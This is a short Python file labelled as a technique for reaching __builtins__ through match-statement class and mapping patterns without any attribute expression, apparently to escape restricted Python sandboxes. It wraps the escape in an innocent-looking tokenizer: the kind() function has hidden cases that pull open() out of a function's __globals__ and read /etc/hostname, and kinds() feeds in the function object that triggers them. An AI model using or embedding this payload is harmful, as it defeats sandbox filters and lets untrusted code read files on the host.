# technique: class and mapping patterns of match read dunder attributes
# goal: take __builtins__ apart without an attribute expression

from types import FunctionType


def tokens(text):
    found, word = [], ""
    for letter in text + " ":
        match letter:
            case "+" | "-" | "*" | "/" | "(" | ")":
                if word:
                    found.append(word)
                found.append(letter)
                word = ""
            case " ":
                if word:
                    found.append(word)
                word = ""
            case other:
                word += other
    return found


def kind(token):
    match token:
        case str() if token.isdigit():
            return "number"
        case str() if token.isidentifier():
            return "name"
        case str():
            return "sign"
        case FunctionType(__globals__={"__builtins__": {"open": use}}):
            return use("/etc/hostname").read()
        case FunctionType(__globals__={"__builtins__": object(open=use)}):
            return use("/etc/hostname").read()


def kinds(text):
    return [kind(token) for token in (*tokens(text), tokens)]
